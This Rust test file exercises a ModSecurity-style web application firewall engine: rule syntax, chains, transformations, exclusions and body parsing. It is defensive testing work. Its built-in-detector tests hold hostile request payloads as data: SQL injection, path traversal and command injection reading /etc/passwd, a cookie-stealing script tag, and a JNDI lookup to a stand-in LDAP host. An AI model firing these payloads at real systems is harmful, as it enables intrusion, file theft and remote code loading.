//! Rules in action: what each part of the language does to a transaction.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

use std::net::SocketAddr;
use std::time::{Duration, SystemTime};

use portcullis_waf::engine::{Action, Interruption, Ruleset, Transaction};
use proptest::prelude::*;

const BODIES: &str = r#"
SecRequestBodyAccess On
SecResponseBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "@rx ^application/json" "id:90001,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQUEST_HEADERS:Content-Type "@rx ^text/xml" "id:90002,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"
"#;

fn rules(text: &str) -> Ruleset {
    match Ruleset::builder().text("bodies", BODIES).text("rules", text).build() {
        Ok(ruleset) => ruleset,
        Err(error) => panic!("{error}"),
    }
}

fn load_error(text: &str) -> String {
    match Ruleset::builder().text("rules", text).build() {
        Ok(_) => panic!("{text} was loaded"),
        Err(error) => error.to_string(),
    }
}

/// A request as tests write it.
struct Request<'r> {
    method: &'r str,
    target: &'r str,
    headers: &'r [(&'r str, &'r str)],
    body: &'r str,
    client: [u8; 4],
    second: u64,
}

impl Default for Request<'_> {
    fn default() -> Self {
        Self { method: "GET", target: "/", headers: &[], body: "", client: [192, 0, 2, 7], second: 0 }
    }
}

impl Request<'_> {
    /// Runs phases 1 and 2.
    fn run(&self, ruleset: &Ruleset) -> Transaction {
        let client = SocketAddr::from((self.client, 4000));
        let now = SystemTime::UNIX_EPOCH + Duration::from_secs(self.second);
        let mut transaction = ruleset.transaction(client, SocketAddr::from(([127, 0, 0, 1], 80)), now);
        transaction.request_line(self.method.as_bytes(), self.target.as_bytes(), b"HTTP/1.1");
        for (name, value) in self.headers {
            transaction.request_header(name.as_bytes(), value.as_bytes());
        }
        if transaction.request_headers_done().is_none() {
            transaction.request_body(self.body.as_bytes());
        }
        transaction
    }
}

fn get(target: &str) -> Request<'_> {
    Request { target, ..Request::default() }
}

fn post<'r>(kind: &'r [(&'r str, &'r str)], body: &'r str) -> Request<'r> {
    Request { method: "POST", headers: kind, body, ..Request::default() }
}

const FORM: &[(&str, &str)] = &[("Content-Type", "application/x-www-form-urlencoded")];
const JSON: &[(&str, &str)] = &[("Content-Type", "application/json")];
const XML: &[(&str, &str)] = &[("Content-Type", "text/xml")];

fn ids(transaction: &Transaction) -> Vec<u32> {
    transaction.matches().iter().map(|matched| matched.rule_id).collect()
}

fn targets(transaction: &Transaction) -> Vec<String> {
    let values = transaction.matches().iter().flat_map(|matched| &matched.values);
    values.map(|value| value.target.clone()).collect()
}

#[test]
fn a_rule_that_denies_interrupts() {
    let ruleset = rules(r#"SecRule ARGS "@contains evil" "id:1,phase:2,deny,status:451""#);
    let transaction = get("/?a=some+evil").run(&ruleset);
    let expected = Interruption { rule_id: 1, status: 451, action: Action::Deny };
    assert_eq!(transaction.interruption(), Some(&expected));
    assert_eq!(get("/?a=good").run(&ruleset).interruption(), None);
}

#[test]
fn detection_only_reports_what_it_would_have_done() {
    let ruleset = rules("SecRuleEngine DetectionOnly\nSecRule ARGS \"@contains evil\" \"id:1,phase:2,deny\"");
    let transaction = get("/?a=evil").run(&ruleset);
    assert_eq!(transaction.interruption(), None);
    assert_eq!(transaction.would_interrupt().unwrap().rule_id, 1);
    assert_eq!(ids(&transaction), [1]);
}

#[test]
fn values_are_found_wherever_they_are() {
    let ruleset = rules(
        r#"SecRule ARGS|ARGS_NAMES|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_FILENAME|XML:/*|XML://@*|FILES "@contains evil" "id:1,phase:2,pass,log""#,
    );
    let seen = |request: Request<'_>| targets(&request.run(&ruleset));
    assert_eq!(seen(get("/?a=evil")), ["ARGS:a"]);
    assert_eq!(seen(get("/?evil=1")), ["ARGS_NAMES:evil"]);
    assert_eq!(seen(get("/ev%69l")), ["REQUEST_FILENAME"]);
    assert_eq!(seen(post(&[("Cookie", "a=1; b=evil")], "")), ["REQUEST_COOKIES:b"]);
    assert_eq!(seen(post(&[("user-agent", "evil")], "")), ["REQUEST_HEADERS:user-agent"]);
    assert_eq!(seen(post(FORM, "x=%65vil")), ["ARGS:x"]);
    assert_eq!(seen(post(JSON, r#"{"a":{"b":["x","\u0065vil"]}}"#)), ["ARGS:json.a.b.array_1"]);
    assert_eq!(seen(post(XML, "<a b='evil'>evil</a>")), ["XML", "XML:b"]);
    let multipart = &[("Content-Type", "multipart/form-data; boundary=B")][..];
    let body = "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"evil\"\r\n\r\nx\r\n--B--\r\n";
    assert_eq!(seen(post(multipart, body)), ["FILES:f"]);
}

#[test]
fn selectors_exclusions_and_counts() {
    let ruleset = rules(
        r#"
        SecRule ARGS|!ARGS:skipped|!ARGS:/^x_/ "@streq evil" "id:1,phase:2,pass,log"
        SecRule ARGS:/^x_/ "@streq evil" "id:2,phase:2,pass,log"
        SecRule &ARGS "@ge 3" "id:3,phase:2,pass,log"
        SecRule &REQUEST_HEADERS:Host "@eq 0" "id:4,phase:1,pass,log"
        "#,
    );
    assert_eq!(ids(&get("/?Skipped=evil").run(&ruleset)), [4]);
    assert_eq!(ids(&get("/?x_1=evil").run(&ruleset)), [4, 2]);
    assert_eq!(ids(&get("/?a=1&b=2&c=evil").run(&ruleset)), [4, 1, 3]);
    assert_eq!(ids(&post(&[("host", "a")], "").run(&ruleset)), [] as [u32; 0]);
}

#[test]
fn chains_match_as_a_whole_and_see_what_came_before() {
    let ruleset = rules(
        r#"
        SecRule ARGS "@rx ^a(.)" "id:1,phase:2,pass,log,capture,chain,msg:'%{tx.1} %{MATCHED_VAR_NAME}'"
            SecRule MATCHED_VARS "@contains z" "chain"
            SecRule REQUEST_METHOD "@streq GET" "setvar:'tx.seen=1'"
        SecRule TX:seen "@eq 1" "id:2,phase:2,pass,log"
        "#,
    );
    assert_eq!(ids(&get("/?q=abz").run(&ruleset)), [1, 2]);
    assert_eq!(ids(&get("/?q=ab&r=z").run(&ruleset)), [] as [u32; 0], "z is in another value");
    let post = Request { method: "POST", target: "/?q=abz", ..Request::default() };
    assert_eq!(ids(&post.run(&ruleset)), [] as [u32; 0]);
    let transaction = get("/?q=abz").run(&ruleset);
    assert_eq!(transaction.matches()[0].message, "b REQUEST_METHOD");
}

#[test]
fn variables_are_counted_up_per_value_and_read_by_macros() {
    let ruleset = rules(
        r#"
        SecAction "id:1,phase:1,pass,nolog,setvar:tx.step=5,setvar:tx.limit=10"
        SecRule ARGS "@contains evil" "id:2,phase:2,pass,nolog,setvar:'tx.score=+%{tx.step}',setvar:'tx.seen_%{MATCHED_VAR_NAME}=1'"
        SecRule TX:score "@ge %{tx.limit}" "id:3,phase:2,deny,msg:'score %{TX.score}'"
        SecRule TX:/^seen_/ "@eq 1" "id:4,phase:2,pass,log"
        "#,
    );
    assert_eq!(get("/?a=evil").run(&ruleset).interruption(), None);
    assert_eq!(targets(&get("/?a=evil").run(&ruleset)), ["TX:seen_args:a"]);
    let transaction = get("/?a=evil&b=evil").run(&ruleset);
    assert_eq!(transaction.interruption().unwrap().rule_id, 3);
    assert_eq!(transaction.matches()[0].message, "score 10");
    assert_eq!(transaction.tx_number("SCORE"), 10);
}

#[test]
fn what_is_known_at_load_and_what_is_not_are_told_apart() {
    // The first jump is always taken, the second depends on the request, and the third reads what the second leaves.
    let ruleset = rules(
        r#"
        SecAction "id:1,phase:1,pass,nolog,setvar:tx.level=1"
        SecRule TX:level "@lt 2" "id:2,phase:1,pass,nolog,skipAfter:HIGH"
        SecAction "id:3,phase:1,pass,log"
        SecMarker HIGH
        SecRule ARGS:level "@rx (\d)" "id:4,phase:1,pass,nolog,capture,setvar:tx.level=%{tx.1}"
        SecRule TX:level "@lt 2" "id:5,phase:1,pass,nolog,skipAfter:END"
        SecAction "id:6,phase:1,pass,log"
        SecMarker END
        SecRule TX:level "@lt 2" "id:7,phase:2,pass,nolog,skipAfter:LAST"
        SecAction "id:8,phase:2,pass,log"
        SecMarker LAST
        "#,
    );
    assert_eq!(ids(&get("/").run(&ruleset)), [] as [u32; 0]);
    assert_eq!(ids(&get("/?level=1").run(&ruleset)), [] as [u32; 0]);
    assert_eq!(ids(&get("/?level=3").run(&ruleset)), [6, 8]);
}

#[test]
fn a_jump_that_can_be_taken_out_is_not_done_beforehand() {
    let ruleset = rules(
        r#"
        SecRule ARGS:off "@eq 1" "id:1,phase:1,pass,nolog,ctl:ruleRemoveById=3"
        SecAction "id:2,phase:1,pass,nolog,setvar:tx.level=1"
        SecRule TX:level "@eq 1" "id:3,phase:1,pass,nolog,skipAfter:END"
        SecAction "id:4,phase:1,pass,log"
        SecMarker END
        "#,
    );
    assert_eq!(ids(&get("/").run(&ruleset)), [] as [u32; 0]);
    assert_eq!(ids(&get("/?off=1").run(&ruleset)), [4]);
}

#[test]
fn rules_and_targets_are_taken_out_at_load_and_at_run_time() {
    let text = r#"
        SecRule REQUEST_FILENAME "@beginsWith /cms/" "id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetById=10;ARGS:text"
        SecRule REQUEST_FILENAME "@beginsWith /raw/" "id:2,phase:1,pass,nolog,ctl:ruleRemoveByTag=attack"
        SecRule ARGS "@contains evil" "id:10,phase:2,pass,log,tag:attack,msg:'Evil'"
    "#;
    let ruleset = rules(text);
    assert_eq!(ids(&get("/?text=evil").run(&ruleset)), [10]);
    assert_eq!(ids(&get("/cms/?text=evil").run(&ruleset)), [] as [u32; 0]);
    assert_eq!(ids(&get("/cms/?other=evil").run(&ruleset)), [10]);
    assert_eq!(ids(&get("/raw/?other=evil").run(&ruleset)), [] as [u32; 0]);
    for (update, query, expected) in [
        ("SecRuleRemoveById 5-15", "/?a=evil", false),
        ("SecRuleRemoveByTag ^att", "/?a=evil", false),
        ("SecRuleRemoveByMsg Evil", "/?a=evil", false),
        ("SecRuleUpdateTargetById 10 \"!ARGS:a\"", "/?a=evil", false),
        ("SecRuleUpdateTargetById 10 \"!ARGS:a\"", "/?b=evil", true),
        ("SecRuleUpdateTargetByTag attack \"REQUEST_METHOD\"", "/?b=evil", true),
        ("SecRuleUpdateActionById 10 \"nolog\"", "/?b=evil", false),
    ] {
        let ruleset = rules(&format!("{text}\n{update}"));
        assert_eq!(!ids(&get(query).run(&ruleset)).is_empty(), expected, "{update}");
    }
}

#[test]
fn transformations_come_in_order_and_multi_match_looks_between_them() {
    let ruleset = rules(
        r#"
        SecRule ARGS "@streq evil" "id:1,phase:2,pass,log,t:none,t:urlDecode,t:lowercase,t:removeWhitespace"
        SecRule ARGS "@rx ^%65" "id:2,phase:2,pass,log,t:none,t:urlDecode,multiMatch"
        SecDefaultAction "phase:2,log,pass,t:lowercase"
        SecRule ARGS "@streq loud" "id:3,phase:2"
        SecRule ARGS "@streq LOUD" "id:4,phase:2,t:none"
        "#,
    );
    assert_eq!(ids(&get("/?a=E+V%2549+l").run(&ruleset)), [1]);
    assert_eq!(ids(&get("/?a=%2565").run(&ruleset)), [2]);
    assert_eq!(ids(&get("/?a=LOUD").run(&ruleset)), [3, 4]);
    let transaction = get("/?a=E+V%2549+l").run(&ruleset);
    let value = &transaction.matches()[0].values[0];
    assert_eq!(value.transformations, ["urlDecode", "lowercase", "removeWhitespace"]);
    assert_eq!(value.value, b"evil");
}

#[test]
fn persistent_collections_outlive_the_request_and_end() {
    let ruleset = rules(
        r#"
        SecCollectionTimeout 100
        SecAction "id:1,phase:1,pass,nolog,initcol:ip=%{REMOTE_ADDR},setvar:ip.hits=+1,expirevar:ip.hits=60"
        SecRule IP:hits "@gt 2" "id:2,phase:1,deny,status:429"
        "#,
    );
    let from = |client, second| {
        let request = Request { client, second, ..Request::default() };
        request.run(&ruleset).interruption().is_some()
    };
    let (one, other) = ([192, 0, 2, 1], [192, 0, 2, 2]);
    assert_eq!([from(one, 0), from(one, 1), from(one, 2)], [false, false, true]);
    assert!(!from(other, 2), "another address has a collection of its own");
    assert!(!from(one, 63), "the variable has ended");
}

#[test]
fn allow_ends_a_phase_a_request_or_everything() {
    let ruleset = |scope: &str| {
        rules(&format!(
            "SecRule ARGS:go \"@eq 1\" \"id:1,phase:1,{scope},nolog\"
             SecAction \"id:2,phase:1,pass,log\"\nSecAction \"id:3,phase:2,pass,log\"\nSecAction \"id:4,phase:3,pass,log\""
        ))
    };
    for (scope, expected) in
        [("allow:phase", &[3, 4][..]), ("allow:request", &[4]), ("allow", &[]), ("pass", &[2, 3, 4])]
    {
        let mut transaction = get("/?go=1").run(&ruleset(scope));
        transaction.response_line(200, b"HTTP/1.1");
        transaction.response_headers_done();
        assert_eq!(ids(&transaction), expected, "{scope}");
    }
}

/// As rule 920480 of CRS 3 has it.
#[test]
fn patterns_may_hold_macros() {
    let ruleset = rules(
        r#"
        SecAction "id:1,phase:1,pass,nolog,setvar:'tx.charsets=utf-8|iso-8859-1',setvar:tx.no_pattern=("
        SecRule REQUEST_HEADERS:X-Charset "@rx charset=(\S+)" "id:2,phase:1,deny,status:403,capture,chain"
            SecRule TX:1 "!@rx ^(?:%{tx.charsets})$"
        SecRule ARGS:a "@rx ^%{args.b}-(\d+)$" "id:3,phase:1,deny,status:403,capture,logdata:'%{tx.1}'"
        SecRule ARGS:a "@rx %{tx.no_pattern}" "id:4,phase:1,deny,status:403"
        "#,
    );
    let refused_by = |charset, target| {
        let request = Request { headers: &[("X-Charset", charset)], target, ..Request::default() };
        request.run(&ruleset).interruption().map(|interruption| interruption.rule_id)
    };
    assert_eq!(refused_by("charset=utf-8", "/"), None);
    assert_eq!(refused_by("charset=iso-8859-1", "/"), None);
    assert_eq!(refused_by("charset=utf-7", "/"), Some(2));
    assert_eq!(refused_by("", "/?b=x%2B&a=xx-1"), Some(3));
    assert_eq!(refused_by("", "/?b=y&a=xx-1"), None);
    assert_eq!(refused_by("", "/?b=(&a=(-1"), None, "what is no pattern matches nothing");
}

/// It is about the request: all rules for the answer run.
#[test]
fn allow_request_ends_no_phase_of_the_answer() {
    let ruleset = rules(
        "SecAction \"id:1,phase:1,allow:request,nolog\"
         SecAction \"id:2,phase:3,pass,log\"\nSecAction \"id:3,phase:3,deny,status:502\"",
    );
    let mut transaction = get("/").run(&ruleset);
    transaction.response_line(200, b"HTTP/1.1");
    assert_eq!(transaction.response_headers_done().map(|interruption| interruption.rule_id), Some(3));
}

#[test]
fn each_directive_adds_types_of_answers() {
    let ruleset = rules(
        "SecResponseBodyMimeTypesClear\nSecResponseBodyMimeType text/css\nSecResponseBodyMimeType application/json",
    );
    let wants = |kind: &[u8]| {
        let mut transaction = get("/").run(&ruleset);
        transaction.response_line(200, b"HTTP/1.1");
        transaction.response_header(b"Content-Type", kind);
        transaction.response_headers_done();
        transaction.wants_response_body().is_some()
    };
    assert_eq!([wants(b"text/css"), wants(b"application/json"), wants(b"text/html")], [true, true, false]);
}

#[test]
fn answers_are_looked_at_by_content_type() {
    let ruleset = rules(
        r#"
        SecRule RESPONSE_HEADERS:X-Leak "@contains secret" "id:1,phase:3,deny,status:502"
        SecRule RESPONSE_BODY "@contains ORA-00933" "id:2,phase:4,deny,status:502"
        "#,
    );
    let answer = |kind: &[u8], leak: &[u8], body: &[u8]| {
        let mut transaction = get("/").run(&ruleset);
        transaction.response_line(200, b"HTTP/1.1");
        transaction.response_header(b"Content-Type", kind);
        transaction.response_header(b"X-Leak", leak);
        let first = transaction.response_headers_done();
        let interruption = first.or_else(|| {
            let wanted = transaction.wants_response_body().is_some();
            transaction.response_body(if wanted { body } else { b"" })
        });
        interruption.map(|interruption| interruption.rule_id)
    };
    assert_eq!(answer(b"text/html; charset=utf-8", b"", b"error ORA-00933 near"), Some(2));
    assert_eq!(answer(b"image/png", b"", b"error ORA-00933 near"), None);
    assert_eq!(answer(b"text/html", b"the secret", b""), Some(1));
    assert_eq!(answer(b"text/html", b"", b"fine"), None);
}

#[test]
fn a_body_that_cannot_be_read_is_an_error_that_rules_see() {
    let ruleset =
        rules(r#"SecRule REQBODY_ERROR "!@eq 0" "id:1,phase:2,deny,status:400,msg:'%{REQBODY_ERROR_MSG}'""#);
    for (kind, body) in
        [(JSON, "{\"a\":"), (XML, "<a>"), (&[("Content-Type", "multipart/form-data")][..], "x")]
    {
        let transaction = post(kind, body).run(&ruleset);
        assert_eq!(transaction.interruption().map(|found| found.status), Some(400), "{body}");
        assert!(!transaction.matches()[0].message.is_empty());
    }
    assert_eq!(post(JSON, "{\"a\":1}").run(&ruleset).interruption(), None);
    let deep = "[".repeat(100_000);
    assert!(post(JSON, &deep).run(&ruleset).interruption().is_some());
}

/// The last of several fields is not the one that every service goes by.
#[test]
fn fields_that_say_two_things_of_the_body_hide_nothing() {
    let ruleset = rules(
        r#"
        SecRule ARGS "@contains evil" "id:1,phase:2,pass,log"
        SecRule REQBODY_ERROR "!@eq 0" "id:2,phase:2,pass,log"
        "#,
    );
    for (headers, expected) in [
        (&[FORM[0], FORM[0]][..], [1]),
        (&[FORM[0], ("content-type", "text/plain")], [2]),
        (&[("Content-Type", "text/plain"), FORM[0]], [2]),
        (&[FORM[0], ("Content-Encoding", "identity")], [1]),
        (&[FORM[0], ("Content-Encoding", "gzip"), ("Content-Encoding", "identity")], [2]),
        (&[FORM[0], ("Content-Encoding", "identity"), ("Content-Encoding", "br")], [2]),
        (&[FORM[0], ("Content-Encoding", "identity"), ("Content-Encoding", "identity")], [1]),
    ] {
        assert_eq!(ids(&post(headers, "a=evil").run(&ruleset)), expected, "{headers:?}");
    }
}

#[test]
fn numbers_of_any_size_are_taken() {
    let ruleset = rules(
        r#"
        SecCollectionTimeout 9223372036854775807
        SecAction "id:1,phase:1,pass,nolog,initcol:ip=%{REMOTE_ADDR},setvar:ip.a=1"
        SecRule ARGS:t "@rx ." "id:2,phase:1,pass,nolog,setvar:tx.n=%{MATCHED_VAR},expirevar:ip.a=%{MATCHED_VAR}"
        SecRule ARGS:t "@rx ." "id:3,phase:1,pass,nolog,setvar:tx.n=-%{tx.n},setvar:tx.n=-%{tx.n},setvar:ip.a=-%{tx.n}"
        SecRule ARGS:t "@rx ." "id:4,phase:1,pass,nolog,setvar:tx.m=-%{MATCHED_VAR},setvar:tx.m=-1,setvar:tx.m=-1,setvar:ip.a=-%{tx.m}"
        SecRule IP:a "@ge 1" "id:5,phase:1,pass,log"
        "#,
    );
    for number in ["9223372036854775807", "-9223372036854775808", "99999999999999999999", "0", "x"] {
        let _ = ids(&get(&format!("/?t={number}")).run(&ruleset));
    }
}

#[test]
fn exclusions_hold_for_variables_of_rules_too() {
    let ruleset = rules(
        r#"
        SecRule ARGS "@rx ." "id:1,phase:2,pass,nolog,setvar:'tx.x_%{MATCHED_VAR_NAME}=%{MATCHED_VAR}',setvar:'tx.x_fixed=evil'"
        SecRule REQUEST_FILENAME "@streq /off" "id:2,phase:1,pass,nolog,ctl:ruleRemoveTargetById=10;TX:x_args:b"
        SecRule TX:/^x_/|!TX:x_fixed|!TX:x_args:a "@contains evil" "id:10,phase:2,pass,log"
        SecRule TX:x_fixed "@contains evil" "id:11,phase:2,pass,log"
        "#,
    );
    assert_eq!(ids(&get("/?a=evil").run(&ruleset)), [11]);
    assert_eq!(targets(&get("/?b=evil&a=evil").run(&ruleset)), ["TX:x_args:b", "TX:x_fixed"]);
    assert_eq!(ids(&get("/off?b=evil").run(&ruleset)), [11]);
}

/// A rule that gathers what it sees must not make memory of it without end.
#[test]
fn what_rules_gather_is_bounded() {
    let ruleset = rules(
        r#"
        SecRule ARGS "@rx ." "id:1,phase:2,pass,nolog,setvar:'tx.all=%{tx.all}%{tx.all}%{MATCHED_VAR}'"
        SecRule TX:all "@rx ^1" "id:2,phase:2,pass,log"
        "#,
    );
    let query: String = (0..24).map(|_| "a=1&").collect();
    let transaction = get(&format!("/?{query}")).run(&ruleset);
    assert!(transaction.matches()[0].values[0].value.len() <= 1 << 20);
}

#[test]
fn a_body_beyond_the_limit_is_refused_or_read_in_part() {
    let rule = r#"SecRule ARGS_POST "@contains evil" "id:1,phase:2,deny""#;
    let reject = rules(&format!("SecRequestBodyLimit 10\n{rule}"));
    let partial = rules(&format!("SecRequestBodyLimit 10\nSecRequestBodyLimitAction ProcessPartial\n{rule}"));
    let status = |ruleset: &Ruleset, body: &str| {
        post(FORM, body).run(ruleset).interruption().map(|interruption| interruption.status)
    };
    assert_eq!(status(&reject, "a=0123456789"), Some(413));
    assert_eq!(status(&partial, "a=0123456789"), None);
    assert_eq!(status(&partial, "a=evil&b=0123456789"), Some(403));
}

#[test]
fn what_was_sanitised_is_marked() {
    let ruleset = rules(r#"SecRule ARGS "@contains evil" "id:1,phase:2,pass,log,sanitiseArg:password""#);
    let transaction = get("/?password=evil&other=evil").run(&ruleset);
    let marks: Vec<bool> = transaction.matches()[0].values.iter().map(|value| value.sanitised).collect();
    assert_eq!(marks, [true, false]);
}

#[test]
fn mistakes_have_a_place_and_a_caret() {
    let error = load_error("# one\nSecRule ARGS \"@rx a(\" \"id:1,phase:2,pass\"\n");
    assert!(error.starts_with("rules:2:"), "{error}");
    assert!(error.contains('^'), "{error}");
    assert!(load_error("SecRule ARGZ \"@rx a\" \"id:1\"").contains("ARGS"));
    assert!(load_error("SecRule ARGS \"@pmFromFile none.data\" \"id:1\"").contains("none.data"));
    assert!(load_error("SecAction \"id:1,pass,skipAfter:NOWHERE\"").contains("NOWHERE"));
}

proptest! {
    /// Whatever comes, there is a decision, and a second look at the same request gives the same one: what is remembered
    /// from request to request changes nothing.
    #[test]
    fn any_bytes_are_decided_and_memory_changes_nothing(
        target in proptest::collection::vec(any::<u8>(), 0..60),
        name in proptest::collection::vec(any::<u8>(), 0..20),
        value in proptest::collection::vec(any::<u8>(), 0..60),
        body in proptest::collection::vec(any::<u8>(), 0..200),
        kind in proptest::sample::select(vec![
            "application/json", "text/xml", "multipart/form-data; boundary=a", "application/x-www-form-urlencoded", "text/plain",
        ]),
    ) {
        let ruleset = rules(
            r#"
            SecRule ARGS|ARGS_NAMES|REQUEST_HEADERS|REQUEST_HEADERS_NAMES|REQUEST_BODY "@rx (?i)[a-f]{2}\d" "id:1,phase:2,pass,log,capture,t:none,t:urlDecodeUni,t:jsDecode,t:lowercase"
            SecRule ARGS|REQUEST_URI "@detectSQLi" "id:2,phase:2,pass,log,multiMatch,t:none,t:utf8toUnicode,t:urlDecodeUni"
            SecRule REQUEST_HEADERS_NAMES "!@rx ^[a-z]+$" "id:3,phase:1,pass,log,t:lowercase"
            "#,
        );
        let look = || {
            let client = SocketAddr::from(([192, 0, 2, 7], 4000));
            let mut transaction = ruleset.transaction(client, client, SystemTime::UNIX_EPOCH);
            transaction.request_line(b"POST", &target, b"HTTP/1.1");
            transaction.request_header(b"Content-Type", kind.as_bytes());
            transaction.request_header(&name, &value);
            transaction.request_headers_done();
            transaction.request_body(&body);
            transaction.response_line(200, b"HTTP/1.1");
            transaction.response_headers_done();
            transaction.response_body(&body);
            transaction.finish();
            transaction.matches().iter().map(ToString::to_string).collect::<Vec<_>>()
        };
        prop_assert_eq!(look(), look());
    }
}

/// Rules that look for names in a list by way of variables that they make up, as the Core Rule Set does.
const RESTRICTED: &str = r#"
SecAction "id:1,phase:1,pass,nolog,setvar:'tx.restricted=/proxy/ /x-seen/ /a.b/'"
SecRule REQUEST_HEADERS_NAMES "@rx ^.*$" "id:2,phase:1,pass,capture,t:lowercase,setvar:'tx.name_%{tx.0}=/%{tx.0}/',setvar:'tx.n=+1',chain"
    SecRule TX:/^name_/ "@within %{tx.restricted}" "setvar:'tx.found=+1'"
SecRule TX:/seen_x/ "@rx ." "id:3,phase:1,pass"
SecRule TX:found "@gt 0" "id:4,phase:1,pass"
"#;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn made_up_variables_that_nobody_sees_change_nothing(
        names in proptest::collection::vec("proxy|Proxy|x-seen|a|seen_x|a.b|[a-z/]{1,6}", 0..6),
    ) {
        // Who reads what was captured by whoever came before sees all of them, and so does the counter in the first.
        let short = RESTRICTED.replace(",setvar:'tx.n=+1'", "");
        let seen = format!("{short}SecRule TX:0 \"@streq never\" \"id:5,phase:1,pass,nolog\"");
        let headers: Vec<_> = names.iter().map(|name| (name.as_str(), "1")).collect();
        let request = Request { headers: &headers, ..Request::default() };
        let matched = |text: &str| {
            let ruleset = rules(text);
            // The second time, names are known.
            (0..2)
                .map(|_| {
                    let transaction = request.run(&ruleset);
                    let found = transaction.tx_number("found");
                    (transaction.matches().iter().map(|found| found.rule_id).collect::<Vec<_>>(), found)
                })
                .collect::<Vec<_>>()
        };
        prop_assert_eq!(matched(&short), matched(&seen));
        prop_assert_eq!(matched(&short), matched(RESTRICTED));
    }
}

mod builtin {
    use portcullis_waf::builtin::{Detector, Settings};

    use super::*;

    fn with(text: &str) -> Ruleset {
        let builder = Ruleset::builder().detector(Detector::new(Settings::default()));
        builder.text("bodies", BODIES).text("rules", text).build().unwrap_or_else(|error| panic!("{error}"))
    }

    fn is_refused(ruleset: &Ruleset, request: &Request<'_>) -> bool {
        request.run(ruleset).interruption().is_some()
    }

    #[test]
    fn the_builtin_ruleset_sees_what_rules_see() {
        let ruleset = with("");
        for attack in [
            get("/?id=1%27+or+%271%27%3D%271"),
            get("/files/..%2f..%2f..%2fetc/passwd"),
            post(JSON, r#"{"comment":"<script>alert(document.cookie)</script>"}"#),
            post(JSON, r#"{"query":"{ user(name: \"x' or 1=1--\") { id } }"}"#),
            post(FORM, "cmd=;cat+/etc/passwd"),
            post(XML, "<a>${jndi:ldap://x.example/a}</a>"),
            post(&[("Cookie", "a=1' union select password from users--")], ""),
        ] {
            assert!(is_refused(&ruleset, &attack), "{} {}", attack.target, attack.body);
        }
        for ordinary in [
            get("/api/v1/search?q=blue+widget+with+handle&limit=20&lang=en"),
            post(JSON, r#"{"text":"Please select a time; bring O'Neil's card","n":1}"#),
        ] {
            assert!(!is_refused(&ruleset, &ordinary), "{} {}", ordinary.target, ordinary.body);
        }
        let transaction = get("/?id=1%27+or+%271%27%3D%271").run(&ruleset);
        let found = &transaction.matches()[0];
        assert_eq!(found.values[0].target, "ARGS:id");
        assert!(found.tags.contains(&"attack-sql".to_owned()), "{:?}", found.tags);
        assert!(transaction.detector_score() >= 5);
    }

    #[test]
    fn exclusions_hold_for_it_too() {
        let attack = get("/cms/?text=1%27+or+%271%27%3D%271");
        let other = get("/cms/?other=1%27+or+%271%27%3D%271");
        for (rule, first, second) in [
            ("", true, true),
            ("SecRuleRemoveById 100000-100999", false, false),
            ("SecRuleRemoveByTag \"^attack-(sql|xpath|ldap)$\"", false, false),
            ("SecRuleUpdateTargetById 100000-100999 \"!ARGS:text\"", false, true),
            (
                "SecRule REQUEST_FILENAME \"@beginsWith /cms/\" \"id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetById=100000-100999;ARGS:text\"",
                false,
                true,
            ),
            (
                "SecRule REQUEST_FILENAME \"@beginsWith /raw/\" \"id:1,phase:1,pass,nolog,ctl:ruleRemoveById=100000-100999\"",
                true,
                true,
            ),
        ] {
            let ruleset = with(rule);
            assert_eq!(is_refused(&ruleset, &attack), first, "{rule}");
            assert_eq!(is_refused(&ruleset, &other), second, "{rule}");
        }
    }
}
